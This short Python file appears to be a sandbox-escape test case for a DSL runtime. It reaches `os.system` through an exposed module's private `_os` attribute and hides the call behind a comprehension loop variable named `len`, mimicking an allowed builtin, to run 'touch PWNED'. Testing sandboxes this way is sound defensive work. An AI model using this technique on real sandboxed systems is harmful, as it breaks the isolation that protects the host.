# Attack: a comprehension's loop variable named like an allowed builtin holds `os.system`.
from dsl.runtime.engine import random as r

[len("touch PWNED") for len in [r._os.system]]
